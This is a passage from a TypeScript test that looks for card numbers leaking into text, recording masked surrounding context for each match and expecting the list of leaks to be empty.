      for (const { digits, at } of numbersIn(text)) {
        for (let length = 13; length <= digits.length; length++) {
          if (!sentCards.has(digits.slice(0, length))) continue;
          // Where it is, masked, control characters shown as dots: enough to tell a value from chance.
          const around = text.slice(Math.max(0, at[0]! - 80), at[length - 1]! + 80);
          leaks.push(maskCardNumbers(around).replace(/[\p{Cc}\ufffd]/gu, '.'));
        }
      }
      expect(leaks, file).toEqual([]);
    }
  });
});
